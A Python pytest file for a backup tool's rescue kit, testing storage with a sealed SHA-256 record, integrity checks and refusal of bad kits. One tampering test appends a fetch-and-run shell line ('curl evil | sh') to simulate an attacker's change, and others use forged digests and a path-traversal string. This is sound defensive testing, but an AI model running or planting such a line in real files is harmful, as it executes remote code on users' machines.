"""The rescue kit in a repository (agent/repo/rescue_kit.py): stored once, in clear, under
rescue/, with a sealed record of its SHA-256 that `check` compares the stored kit with."""

from __future__ import annotations

import datetime as dt
import hashlib
import importlib.util
import io
import json
import tarfile
from pathlib import Path

import pytest

from agent import __version__, clock
from agent.crypto.kdf import KdfParams
from agent.engine.check import CheckEngine
from agent.errors import IntegrityError
from agent.repo import layout, rescue_kit
from agent.repo.repository import Repository
from agent.storage.memory import MemoryStorage
from tests.support.locked import run_locked

FAST = KdfParams(memory_kib=8192, iterations=1, parallelism=1)
ROOT = Path(__file__).resolve().parents[3]


def _deterministic_tar():
    spec = importlib.util.spec_from_file_location("build_kit", ROOT / "scripts" / "build_kit.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.deterministic_tar


class CountingStorage(MemoryStorage):
    """A memory storage that counts what a run asks of it."""

    def __init__(self) -> None:
        super().__init__()
        self.calls: list[tuple[str, str]] = []

    def exists(self, name: str) -> bool:
        self.calls.append(("exists", name))
        return super().exists(name)

    def write(self, name: str, data: bytes, *, exclusive: bool = False, **options: bool) -> None:
        self.calls.append(("write", name))
        super().write(name, data, exclusive=exclusive, **options)

    def read(self, name: str, *, max_size: int | None = None) -> bytes:
        self.calls.append(("read", name))
        return super().read(name, max_size=max_size)


def _kit(folder: Path, version: str = __version__) -> Path:
    """A small kit of the real layout, made by the real tar builder, installed in `folder`."""
    content = folder / "content"
    (content / "wheels").mkdir(parents=True)
    (content / "wheels" / "backupctl_sante-0-py3-none-any.whl").write_bytes(b"wheel" * 100)
    (content / "requirements.txt").write_text("backupctl-sante==0 --hash=sha256:00\n")
    (content / "FORMAT.md").write_text("# backupctl repository format\n")
    (content / "READ-ME-FIRST.txt").write_text("KIT DE SECOURS / RESCUE KIT\n")
    installed = folder / "share"
    installed.mkdir()
    tar = installed / layout.rescue_kit_file(version)
    _deterministic_tar()(content, tar, tar.name.removesuffix(".tar"), mtime=946684800)
    return installed


@pytest.fixture
def repo() -> Repository:
    return Repository.init(CountingStorage(), b"phrase", cipher="xchacha20-poly1305", compression_level=1,
                           kdf_params=FAST)


def test_the_kit_is_stored_in_clear_under_rescue_with_a_sealed_record(repo: Repository, tmp_path: Path) -> None:
    installed = _kit(tmp_path)
    kit_bytes = (installed / layout.rescue_kit_file(__version__)).read_bytes()
    outcome = rescue_kit.ensure_kit(repo, directory=installed)
    assert outcome.state == rescue_kit.STORED
    objects = repo.storage.objects  # type: ignore[attr-defined]
    name = layout.rescue_kit_name(__version__)
    digest = hashlib.sha256(kit_bytes).hexdigest()
    assert objects[name] == kit_bytes  # in clear, byte for byte: readable with no tool
    assert objects[name + ".sha256"] == f"{digest}  {layout.rescue_kit_file(__version__)}\n".encode()
    assert objects["rescue/FORMAT.md"] == b"# backupctl repository format\n"
    assert objects["rescue/READ-ME-FIRST.txt"] == b"KIT DE SECOURS / RESCUE KIT\n"
    record = rescue_kit.stored_record(repo)
    assert record is not None and record.sha256 == digest and record.size == len(kit_bytes)
    assert digest.encode() not in objects[layout.rescue_record_name(__version__)]  # the record is sealed
    # The record is written last: an interrupted upload leaves no record, so the next run stores again.
    calls = repo.storage.calls  # type: ignore[attr-defined]
    writes = [n for op, n in calls if op == "write" and n.startswith("rescue/")]
    assert writes[0] == name and writes[-1] == layout.rescue_record_name(__version__)


def test_a_present_kit_costs_one_existence_check_and_is_not_stored_again(repo: Repository, tmp_path: Path) -> None:
    installed = _kit(tmp_path)
    assert rescue_kit.ensure_kit(repo, directory=installed).state == rescue_kit.STORED
    repo.storage.calls.clear()  # type: ignore[attr-defined]
    outcome = rescue_kit.ensure_kit(repo, directory=installed)
    assert outcome.state == rescue_kit.PRESENT
    assert repo.storage.calls == [("exists", layout.rescue_record_name(__version__))]  # type: ignore[attr-defined]


def test_no_installed_kit_stores_nothing_and_says_what_to_do(repo: Repository, tmp_path: Path) -> None:
    before = dict(repo.storage.objects)  # type: ignore[attr-defined]
    outcome = rescue_kit.ensure_kit(repo, directory=tmp_path / "nothing-here")
    assert outcome.state == rescue_kit.NOT_INSTALLED
    assert repo.storage.objects == before  # type: ignore[attr-defined]
    warning = outcome.warning()
    assert warning is not None and "make dist" in warning and str(tmp_path / "nothing-here") in warning


def test_a_file_that_is_not_a_kit_is_not_stored(repo: Repository, tmp_path: Path) -> None:
    (tmp_path / layout.rescue_kit_file(__version__)).write_bytes(b"not a tar at all" * 100)
    outcome = rescue_kit.ensure_kit(repo, directory=tmp_path)
    assert outcome.state == rescue_kit.UNUSABLE and "not a rescue kit" in outcome.problem
    assert not any(n.startswith("rescue/") for n in repo.storage.objects)  # type: ignore[attr-defined]


def test_check_accepts_the_stored_kit_and_does_not_call_rescue_foreign(repo: Repository, tmp_path: Path) -> None:
    rescue_kit.ensure_kit(repo, directory=_kit(tmp_path))
    report = run_locked(CheckEngine(repo))
    assert report.ok and report.errors == [] and not any("rescue" in w for w in report.warnings)


@pytest.mark.parametrize("attack", ["same size", "same size, .sha256 left alone", "longer", "record of another key"])
def test_check_reports_a_kit_replaced_in_the_storage(repo: Repository, tmp_path: Path, attack: str) -> None:
    rescue_kit.ensure_kit(repo, directory=_kit(tmp_path))
    objects = repo.storage.objects  # type: ignore[attr-defined]
    name = layout.rescue_kit_name(__version__)
    if attack == "same size":  # the attacker also rewrites the clear .sha256 to match
        forged = bytes([objects[name][0] ^ 1]) + objects[name][1:]
        objects[name] = forged
        objects[name + ".sha256"] = f"{hashlib.sha256(forged).hexdigest()}  kit\n".encode()
    elif attack == "same size, .sha256 left alone":  # only the tar's own digest tells
        objects[name] = bytes([objects[name][0] ^ 1]) + objects[name][1:]
    elif attack == "longer":
        objects[name] = objects[name] + b"#!/bin/sh\ncurl evil | sh\n"
    else:  # a record sealed by another repository's key (the attacker's own)
        other = Repository.init(MemoryStorage(), b"other", cipher="xchacha20-poly1305", compression_level=1,
                                kdf_params=FAST)
        other.save_rescue_record(__version__, rescue_kit.KitRecord(__version__, "0" * 64, 1, "now").encode())
        objects[layout.rescue_record_name(__version__)] = other.storage.objects[  # type: ignore[attr-defined]
            layout.rescue_record_name(__version__)]
    report = run_locked(CheckEngine(repo))
    assert not report.ok
    assert report.rescue_kit_problems == report.errors and len(report.errors) == 1
    assert name in report.errors[0] and "do not install" in report.errors[0]


def test_check_of_a_repository_without_any_kit_is_clean(repo: Repository) -> None:
    report = run_locked(CheckEngine(repo))  # the absence is a warning of `status`, not of the structure
    assert report.ok and report.errors == [] and report.warnings == []


def test_a_kit_planted_without_a_record_is_named(repo: Repository, tmp_path: Path) -> None:
    rescue_kit.ensure_kit(repo, directory=_kit(tmp_path))
    repo.storage.write("rescue/backupctl-rescue-kit-9.9.9.tar", b"planted")
    report = run_locked(CheckEngine(repo))
    assert report.ok  # the kit of this version is intact; the planted one is named, not installed
    assert any("backupctl-rescue-kit-9.9.9.tar has no sealed record" in w for w in report.warnings)


def test_rescue_names() -> None:
    assert layout.rescue_kit_name("0.1.0") == "rescue/backupctl-rescue-kit-0.1.0.tar"
    assert layout.rescue_version_from_record_name("rescue/backupctl-rescue-kit-0.1.0.tar.record") == "0.1.0"
    for stray in ("rescue/backupctl-rescue-kit-0.1.0.tar", "rescue/backupctl-rescue-kit-../x.tar.record",
                  "rescue/other.tar.record", "keys/backupctl-rescue-kit-1.tar.record"):
        assert layout.rescue_version_from_record_name(stray) is None
    with pytest.raises(ValueError):
        layout.rescue_kit_file("../../etc")


# ---- what ensure_kit says it did: the --json of init, backup, copy and key export ----------

OTHER = "7.7.7"  # a version other than this program's: the outcome names the version it was asked for


def _member(tar, name: str, data: bytes = b"", *, kind: bytes = tarfile.REGTYPE, link: str = "") -> None:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, link, len(data) if kind == tarfile.REGTYPE else 0
    tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)


def test_a_stored_kit_is_described_by_its_version_path_and_sealed_record(repo: Repository, tmp_path: Path) -> None:
    installed = _kit(tmp_path, OTHER)
    path = installed / layout.rescue_kit_file(OTHER)
    moment = dt.datetime(2026, 11, 6, 20, 0, tzinfo=dt.timezone(dt.timedelta(hours=1)))
    clock.freeze(moment)
    try:
        outcome = rescue_kit.ensure_kit(repo, version=OTHER, directory=installed)
    finally:
        clock.freeze(None)
    record = rescue_kit.KitRecord(OTHER, hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_size,
                                  "2026-11-06T20:00:00+01:00")
    assert outcome == rescue_kit.KitOutcome(rescue_kit.STORED, OTHER, path, record=record)
    assert rescue_kit.stored_record(repo, OTHER) == record  # the sealed record says when it was stored
    assert outcome.warning() is None  # stored: nothing to warn about


def test_a_kit_already_present_is_described_by_its_version_and_path(repo: Repository, tmp_path: Path) -> None:
    installed = _kit(tmp_path, OTHER)
    rescue_kit.ensure_kit(repo, version=OTHER, directory=installed)
    outcome = rescue_kit.ensure_kit(repo, version=OTHER, directory=installed)
    assert outcome == rescue_kit.KitOutcome(rescue_kit.PRESENT, OTHER, installed / layout.rescue_kit_file(OTHER))
    assert outcome.warning() is None


def test_no_installed_kit_names_the_version_and_where_it_was_looked_for(repo: Repository, tmp_path: Path) -> None:
    outcome = rescue_kit.ensure_kit(repo, version=OTHER, directory=tmp_path)
    assert outcome == rescue_kit.KitOutcome(rescue_kit.NOT_INSTALLED, OTHER, tmp_path / layout.rescue_kit_file(OTHER))
    assert outcome.warning() == (
        f"no rescue kit installed ({tmp_path / layout.rescue_kit_file(OTHER)} is missing): the repositories get "
        f"no rescue kit of backupctl {OTHER}; run `make dist` in the checkout (or install from the kit with "
        f"scripts/install.sh), then back up again")


def test_an_installed_kit_larger_than_any_kit_is_refused_unread(repo: Repository, tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    installed = _kit(tmp_path, OTHER)
    path = installed / layout.rescue_kit_file(OTHER)
    size = path.stat().st_size
    monkeypatch.setattr(rescue_kit, "MAX_KIT_SIZE", size - 1)
    outcome = rescue_kit.ensure_kit(repo, version=OTHER, directory=installed)
    assert outcome == rescue_kit.KitOutcome(rescue_kit.UNUSABLE, OTHER, path,
                                            problem=f"{size} bytes, more than any kit")
    assert outcome.warning() == f"the installed rescue kit {path} is not stored: {size} bytes, more than any kit"
    assert not any(n.startswith("rescue/") for n in repo.storage.objects)  # type: ignore[attr-defined]
    monkeypatch.setattr(rescue_kit, "MAX_KIT_SIZE", size)  # exactly at the bound: a kit
    assert rescue_kit.ensure_kit(repo, version=OTHER, directory=installed).state == rescue_kit.STORED


def test_an_installed_kit_that_cannot_be_read_says_why(repo: Repository, tmp_path: Path) -> None:
    path = tmp_path / layout.rescue_kit_file(OTHER)
    path.mkdir()  # something is there, but reading it fails
    outcome = rescue_kit.ensure_kit(repo, version=OTHER, directory=tmp_path)
    assert outcome == rescue_kit.KitOutcome(rescue_kit.UNUSABLE, OTHER, path, problem="cannot be read (Is a directory)")
    assert outcome.warning() == f"the installed rescue kit {path} is not stored: cannot be read (Is a directory)"


def test_a_file_that_is_not_a_kit_names_the_version_and_path(repo: Repository, tmp_path: Path) -> None:
    path = tmp_path / layout.rescue_kit_file(OTHER)
    path.write_bytes(b"not a tar at all" * 100)
    outcome = rescue_kit.ensure_kit(repo, version=OTHER, directory=tmp_path)
    assert (outcome.state, outcome.version, outcome.installed) == (rescue_kit.UNUSABLE, OTHER, path)
    assert outcome.problem.startswith("not a rescue kit (")


def test_a_kit_whose_documents_are_links_is_not_a_kit(repo: Repository, tmp_path: Path) -> None:
    """FORMAT.md and READ-ME-FIRST.txt are stored in clear beside the kit: they must be the
    kit's own files, not a link a reader of the tar would follow to another member."""
    top = layout.rescue_kit_file(OTHER).removesuffix(".tar")
    path = tmp_path / layout.rescue_kit_file(OTHER)
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        _member(tar, f"{top}/READ-ME-FIRST.txt", b"RESCUE KIT\n")
        _member(tar, f"{top}/FORMAT.md", kind=tarfile.SYMTYPE, link="READ-ME-FIRST.txt")
    outcome = rescue_kit.ensure_kit(repo, version=OTHER, directory=tmp_path)
    assert outcome.problem == f"not a rescue kit ('{top}/FORMAT.md is not a file')"
    assert not any(n.startswith("rescue/") for n in repo.storage.objects)  # type: ignore[attr-defined]


def test_a_compressed_tar_is_not_the_kit(repo: Repository, tmp_path: Path) -> None:
    """The kit is a plain tar (docs/FORMAT.md 12.5: reproducible, its SHA-256 on the sheet)."""
    top = layout.rescue_kit_file(OTHER).removesuffix(".tar")
    path = tmp_path / layout.rescue_kit_file(OTHER)
    with tarfile.open(path, "w:gz") as tar:
        _member(tar, f"{top}/FORMAT.md", b"# format\n")
        _member(tar, f"{top}/READ-ME-FIRST.txt", b"RESCUE KIT\n")
    outcome = rescue_kit.ensure_kit(repo, version=OTHER, directory=tmp_path)
    assert outcome.state == rescue_kit.UNUSABLE and outcome.problem.startswith("not a rescue kit (")


def test_the_installed_kit_is_looked_for_in_the_folder_the_environment_names(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(rescue_kit.KIT_DIR_VARIABLE, str(tmp_path))
    assert rescue_kit.installed_kit(OTHER) == tmp_path / layout.rescue_kit_file(OTHER)
    assert rescue_kit.installed_kit(OTHER, tmp_path / "given") == tmp_path / "given" / layout.rescue_kit_file(OTHER)
    monkeypatch.delenv(rescue_kit.KIT_DIR_VARIABLE)  # none named: the installation's share/backupctl
    assert rescue_kit.installed_kit(OTHER) == rescue_kit.KIT_DIR / layout.rescue_kit_file(OTHER)


# ---- the sealed record ---------------------------------------------------------------------

def test_a_record_decodes_to_what_was_sealed() -> None:
    record = rescue_kit.KitRecord(OTHER, "ab" * 32, 1234, "2026-11-06T20:00:00+01:00")
    assert rescue_kit.KitRecord.decode(OTHER, record.encode()) == record


@pytest.mark.parametrize("doc, message", [
    ({"kit": "backupctl-rescue-kit-7.7.7.tar", "version": OTHER, "sha256": "ab", "size": 1},
     "rescue kit record of 7.7.7: not a record ('stored')"),
    ({"kit": "backupctl-rescue-kit-7.7.7.tar", "version": OTHER, "sha256": "ab", "size": "many", "stored": "x"},
     "rescue kit record of 7.7.7: not a record (invalid literal for int() with base 10: 'many')"),
    # The record of another version's kit, whole and consistent, put in this version's place.
    ({"kit": "backupctl-rescue-kit-1.0.0.tar", "version": "1.0.0", "sha256": "ab", "size": 1, "stored": "x"},
     "rescue kit record of 7.7.7: names another kit ('backupctl-rescue-kit-1.0.0.tar')"),
    # This version, but the name of another kit.
    ({"kit": "backupctl-rescue-kit-1.0.0.tar", "version": OTHER, "sha256": "ab", "size": 1, "stored": "x"},
     "rescue kit record of 7.7.7: names another kit ('backupctl-rescue-kit-1.0.0.tar')"),
])
def test_a_record_of_another_kit_or_no_record_is_refused(doc: dict[str, object], message: str) -> None:
    with pytest.raises(IntegrityError) as caught:
        rescue_kit.KitRecord.decode(OTHER, json.dumps(doc).encode())
    assert str(caught.value) == message


# ---- check: the stored kit against its record -----------------------------------------------

def _stored(repo: Repository, tmp_path: Path) -> str:
    rescue_kit.ensure_kit(repo, directory=_kit(tmp_path))
    return layout.rescue_kit_name(__version__)


def test_check_names_a_kit_missing_from_the_storage(repo: Repository, tmp_path: Path) -> None:
    name = _stored(repo, tmp_path)
    del repo.storage.objects[name]  # type: ignore[attr-defined]
    result = rescue_kit.check_kits(repo)
    assert len(result.errors) == 1 and result.kits == 0
    assert result.errors[0].startswith(f"rescue kit {name}: missing from the storage; it is not the kit backupctl "
                                       f"stored")


def test_check_names_a_sha256_file_that_does_not_give_the_sealed_digest(repo: Repository, tmp_path: Path) -> None:
    """The tar is intact; only its clear .sha256 was rewritten: `sha256sum -c` would mislead."""
    name = _stored(repo, tmp_path)
    objects = repo.storage.objects  # type: ignore[attr-defined]
    objects[name + ".sha256"] = b"0" * 64 + b"  backupctl-rescue-kit.tar\n"
    assert [e.split(";")[0] for e in rescue_kit.check_kits(repo).errors] == [
        f"rescue kit {name}: {name}.sha256 does not give the sealed SHA-256"]
    objects[name + ".sha256"] = b""
    assert len(rescue_kit.check_kits(repo).errors) == 1


def test_check_names_a_sha256_file_of_junk_bytes(repo: Repository, tmp_path: Path) -> None:
    """Bytes that are not ASCII are a wrong .sha256, not a crash of `check`."""
    name = _stored(repo, tmp_path)
    repo.storage.objects[name + ".sha256"] = "é".encode("latin-1") * 64  # type: ignore[attr-defined]
    assert [e.split(";")[0] for e in rescue_kit.check_kits(repo).errors] == [
        f"rescue kit {name}: {name}.sha256 does not give the sealed SHA-256"]


def test_check_reads_a_sha256_file_of_at_most_4_kib(repo: Repository, tmp_path: Path) -> None:
    """A .sha256 is one line; a planted large one is named, not read into memory."""
    name = _stored(repo, tmp_path)
    objects = repo.storage.objects  # type: ignore[attr-defined]
    line = objects[name + ".sha256"]
    objects[name + ".sha256"] = line + b" " * (4096 - len(line))
    assert rescue_kit.check_kits(repo).errors == []
    objects[name + ".sha256"] = line + b" " * (4097 - len(line))
    assert [e.split(";")[0] for e in rescue_kit.check_kits(repo).errors] == [
        f"rescue kit {name}: {name}.sha256 does not give the sealed SHA-256"]


class RangeStorage(CountingStorage):
    """Counts the ranged reads; refuses more than a kit of a few blocks would ever need."""

    def __init__(self) -> None:
        super().__init__()
        self.ranges: list[tuple[int, int]] = []

    def read_range(self, name: str, offset: int, length: int) -> bytes:
        self.ranges.append((offset, length))
        assert len(self.ranges) < 1000, "the kit is read again and again"
        return super().read_range(name, offset, length)


def test_check_reads_the_kit_in_bounded_blocks_end_to_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo = Repository.init(RangeStorage(), b"phrase", cipher="xchacha20-poly1305", compression_level=1,
                           kdf_params=FAST)
    name = _stored(repo, tmp_path)
    size = len(repo.storage.objects[name])  # type: ignore[attr-defined]
    monkeypatch.setattr(rescue_kit, "READ_BLOCK", 1000)
    result = rescue_kit.check_kits(repo)
    assert result.errors == [] and result.kits == 1
    blocks = [(offset, min(1000, size - offset)) for offset in range(0, size, 1000)]
    assert repo.storage.ranges == blocks  # type: ignore[attr-defined]
